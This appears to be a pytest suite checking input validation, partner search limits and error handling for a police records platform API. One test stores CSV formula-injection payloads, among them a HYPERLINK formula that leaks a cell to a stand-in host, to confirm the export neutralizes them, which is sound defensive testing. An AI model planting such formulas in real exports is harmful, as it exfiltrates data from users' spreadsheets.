"""Bad input answers 4xx with a reason, never 500 (issue 13, finding 10), and partners search only by the
fields their agreement shares (finding 9)."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from typing import Annotated

import pytest
from api_support import PASSWORD, PURPOSE
from fastapi import APIRouter
from fastapi.testclient import TestClient

from policecloud.platform.access.credentials import new_totp_secret, totp_now, totp_step
from policecloud.platform.access.purpose import MAX_PURPOSE_CHARS
from policecloud.platform.api import create_app
from policecloud.platform.api.ids import MAX_ROW_ID
from policecloud.platform.api.policy import Access, requires
from policecloud.platform.registry import App, discover_apps

HUGE_IDS = [2**31, 2**63, 2**64, 10**30]  # past PostgreSQL's INTEGER, SQLite's, and more


def _int_id_routes(app) -> list[tuple[str, str]]:
    """(method, path template) of every operation with an integer path parameter, from the OpenAPI document."""
    out = []
    for path, operations in app.openapi()["paths"].items():
        for method, operation in operations.items():
            params = [p for p in operation.get("parameters", []) if p["in"] == "path"]
            if any(p["schema"].get("type") == "integer" for p in params):
                out.append((method.upper(), path))
    return out


@pytest.mark.parametrize("store_kind", ["sqlite", pytest.param("postgresql", marks=pytest.mark.postgres)])
def test_huge_ids_are_refused_on_every_id_route_for_every_role(platform):
    routes = _int_id_routes(platform.app)
    assert len(routes) >= 14  # persons ×3, users ×5, alerts ×5, watchlists, geofences, audit ×2
    people = {role: platform.issue_token(platform.user(f"u.{role}", [role]), f"token-of-{role}-0001")
              for role in ("investigator", "sysadmin", "secadmin", "auditor", "dispatcher")}  # fmt: skip
    for method, template in routes:
        seen = set()
        for huge in HUGE_IDS:
            path = template.replace(template[template.index("{") : template.index("}") + 1], str(huge))
            for headers in people.values():
                body = {"note": "x", "roles": [], "code": "420111", "reason": "a reason", "unit": "u"}
                response = platform.client.request(
                    method, path, params={"purpose": PURPOSE}, headers=headers,
                    json=body if method in ("POST", "PUT", "PATCH") else None,
                )  # fmt: skip
                assert response.status_code < 500, (method, path, response.text)
                assert response.json()["message_zh"]
                seen.add(response.status_code)
        # Someone allowed to act got past the permission check and was told the id is not valid.
        assert 422 in seen or template.startswith("/api/audit/"), (method, template, seen)
    person = platform.person()
    investigator = people["investigator"]
    ok = platform.client.get(f"/api/persons/{person}", params={"purpose": PURPOSE}, headers=investigator)
    assert ok.status_code == 200  # the bound keeps every real id
    largest = platform.client.get(f"/api/persons/{MAX_ROW_ID}", params={"purpose": PURPOSE}, headers=investigator)
    assert largest.status_code == 404  # the largest id passes the bound and is looked up


def test_audit_search_bounds(platform):
    auditor = platform.issue_token(platform.user("shen.audit", ["auditor"]), "auditor-token-0001")

    def search(**params):
        return platform.client.get("/api/audit", params={"purpose": PURPOSE, **params}, headers=auditor)

    assert search(after_seq=MAX_ROW_ID + 1).status_code == 422
    for name, value in (("since", "0001-01-01T00:00:00+01:00"), ("until", "9999-12-31T23:59:59-01:00")):
        refused = search(**{name: value})
        assert refused.status_code == 400 and refused.json()["error"] == "time_range", refused.text
    assert search(since="2026-01-01T00:00:00", after_seq=MAX_ROW_ID).status_code == 200


def test_a_required_field_cannot_be_nulled_and_optional_ones_clear(platform):
    headers = platform.issue_token(platform.user("zhou", ["investigator"]), "zhou-token-00001")
    person = platform.person()
    for field in ("name", "id_number", "jurisdiction_code"):
        refused = platform.client.patch(f"/api/persons/{person}", params={"purpose": PURPOSE}, json={field: None},
                                        headers=headers)  # fmt: skip
        assert refused.status_code == 422 and field in refused.json()["message"], refused.text
    cleared = platform.client.patch(f"/api/persons/{person}", params={"purpose": PURPOSE},
                                    json={"phone": None, "address": None}, headers=headers)  # fmt: skip
    assert cleared.status_code == 200 and (cleared.json()["phone"], cleared.json()["address"]) == ("", "")
    assert [e["fields"] for e in platform.events("data.change")] == [["address", "phone"]]


@pytest.mark.parametrize(
    ("field", "value"),
    [("id_number", "420111199202022345"), ("id_number", "ABCDEFGHIJKLMNOPQR"), ("sex", "x"), ("phone", "abcdefg"),
     ("phone", "12345"), ("jurisdiction_code", "４２０１１１"), ("jurisdiction_code", "4201111"), ("name", "   ")],
)  # fmt: skip
def test_person_values_are_checked_with_the_element_types(platform, field, value):
    headers = platform.issue_token(platform.user("zhou", ["investigator"]), "zhou-token-00001")
    body = {"id_number": "420111199202022341", "name": "王芳", "jurisdiction_code": "420111001", field: value}
    refused = platform.client.post("/api/persons", params={"purpose": PURPOSE}, json=body, headers=headers)
    assert refused.status_code == 422 and field in refused.json()["message"], refused.text
    person = platform.person()
    changed = platform.client.patch(f"/api/persons/{person}", params={"purpose": PURPOSE}, json={field: value},
                                    headers=headers)  # fmt: skip
    assert changed.status_code == 422
    assert platform.events("data.create") == [] and platform.events("data.change") == []


def test_person_values_are_stored_normalized(platform):
    headers = platform.issue_token(platform.user("zhou", ["investigator"]), "zhou-token-00001")
    body = {"id_number": "420111199202022341", "name": " 王 芳 ", "sex": "女",
            "phone": "１３９００００１１１１", "jurisdiction_code": "420111001"}  # fmt: skip
    created = platform.client.post("/api/persons", params={"purpose": PURPOSE}, json=body, headers=headers)
    assert created.status_code == 201, created.text
    assert {k: created.json()[k] for k in ("name", "sex", "phone")} == {"name": "王 芳", "sex": "2",
                                                                       "phone": "13900001111"}  # fmt: skip


def test_a_purpose_is_bounded(platform):
    headers = platform.issue_token(platform.user("chen", ["analyst"]), "chen-token-000001")
    person = platform.person()
    long_text = "核查" * (MAX_PURPOSE_CHARS // 2 + 1)
    refused = platform.client.get(f"/api/persons/{person}", params={"purpose": long_text}, headers=headers)
    assert refused.status_code == 400 and refused.json()["error"] == "purpose_too_long"
    assert platform.events("data.read") == []
    fits = platform.client.get(f"/api/persons/{person}", params={"purpose": long_text[:MAX_PURPOSE_CHARS]},
                               headers=headers)  # fmt: skip
    assert fits.status_code == 200


def test_totp_codes_of_other_digits_are_wrong_codes_not_errors(platform):
    secret = new_totp_secret()
    now = datetime(2026, 11, 25, 9, 0, tzinfo=UTC)
    code = totp_now(secret, now)
    full_width = "".join(chr(ord(c) + 0xFEE0) for c in code)
    assert totp_step(secret, code, now) is not None
    assert totp_step(secret, full_width, now) is None and totp_step(secret, "١٢٣٤٥٦", now) is None
    platform.user("it.admin", ["sysadmin"])
    answer = platform.client.post("/api/auth/login", json={"username": "it.admin", "password": PASSWORD,
                                                          "totp": "１２３４５６", "client": "api"})  # fmt: skip
    assert answer.status_code == 401 and answer.json()["message_zh"]


def test_csv_export_neutralizes_formulas(platform):
    headers = platform.issue_token(platform.user("zhou", ["investigator"]), "zhou-token-00001")
    platform.person(name='=HYPERLINK("http://x.example/?d="&A1,"点击")', address="@SUM(1+1)")
    platform.person(name="+张伟", address="-1+2", id_number="420111199202022341")
    platform.person(name="\t张伟", address="\r张伟", id_number="420502199202022347")
    text = platform.client.get("/api/persons/export", params={"q": "张伟", "purpose": PURPOSE}, headers=headers).text
    names = [row["name"] for row in csv.DictReader(io.StringIO(text))]
    text = platform.client.get("/api/persons/export", params={"q": "HYPERLINK", "purpose": PURPOSE},
                               headers=headers).text  # fmt: skip
    rows = list(csv.DictReader(io.StringIO(text)))
    assert names == ["'+张伟", "'\t张伟"]
    assert rows[0]["name"].startswith("'=HYPERLINK(") and rows[0]["address"] == "'@SUM(1+1)"


def test_a_name_only_agreement_matches_names_only(platform):
    platform.agreement("省交通运输厅", "XY-2026-001", {"persons": ["name"]})
    platform.agreement("某保险公司", "BX-2026-002", {"persons": ["birth_date"]})
    partner = platform.issue_token(platform.user("partner.a", ["partner"], agency="省交通运输厅"), "partner-token-a1")
    other = platform.issue_token(platform.user("partner.b", ["partner"], agency="某保险公司"), "partner-token-b1")
    person = platform.person()

    def search(headers, q):
        return platform.client.get("/api/persons", params={"q": q, "purpose": PURPOSE}, headers=headers)

    assert search(partner, "420111199001011234").json()["items"] == []  # was a match: the number is on file
    assert search(partner, "13812345678").json()["items"] == []
    assert search(partner, "张伟").json()["items"] == [{"id": person, "name": "张伟"}]
    reads = platform.events("data.disclosure")
    assert [r["result_ids"] for r in reads] == [[], [], [person]]
    audited = [e["query"] for e in platform.events("data.read")]
    assert all(q["matched_on"] == ["name"] for q in audited)
    refused = search(other, "张伟")
    assert refused.status_code == 403 and refused.json()["error"] == "not_searchable"


def test_an_unexpected_failure_answers_json_without_a_traceback(platform, caplog):
    router = APIRouter()

    @router.get("/api/boom")
    def boom(_access: Annotated[Access, requires(public=True)]) -> dict:
        raise RuntimeError("secret detail /srv/policecloud/x.py line 12")

    app = create_app(platform.settings, engine=platform.engine, clock=platform.clock,
                     apps=[*discover_apps(), App(name="boom", zh="故障", en="Boom", routers=[router])])  # fmt: skip
    client = TestClient(app, raise_server_exceptions=False)
    response = client.get("/api/boom")
    assert response.status_code == 500 and response.json()["error"] == "internal_error"
    assert "secret detail" not in response.text and "Traceback" not in response.text
    assert response.headers["x-content-type-options"] == "nosniff"
    assert any("secret detail" in (r.exc_text or "") or r.exc_info for r in caplog.records)


@pytest.mark.parametrize("store_kind", ["sqlite", pytest.param("postgresql", marks=pytest.mark.postgres)])
def test_a_nul_character_is_refused_not_a_server_error(platform):
    investigator = platform.issue_token(platform.user("zhou", ["investigator"]), "zhou-token-00001")
    auditor = platform.issue_token(platform.user("shen.audit", ["auditor"]), "auditor-token-0001")
    answers = [
        platform.client.get("/api/persons", params={"q": "张\x00伟", "purpose": PURPOSE}, headers=investigator),
        platform.client.get("/api/audit", params={"actor": "a\x00", "text": "x\x00", "purpose": PURPOSE},
                            headers=auditor),
        platform.client.post("/api/persons", params={"purpose": PURPOSE}, headers=investigator,
                             json={"id_number": "420111199202022341", "name": "王芳", "address": "珞喻路\x00",
                                   "jurisdiction_code": "420111001"}),
        platform.client.post("/api/auth/login", json={"username": "zhou\x00", "password": PASSWORD}),
    ]  # fmt: skip
    # PostgreSQL text cannot hold NUL (400 invalid_value); SQLite can (the search simply finds nothing).
    assert all(a.status_code < 500 for a in answers), [(a.status_code, a.text[:100]) for a in answers]
    assert all(a.json()["message_zh"] for a in answers if a.status_code >= 400)
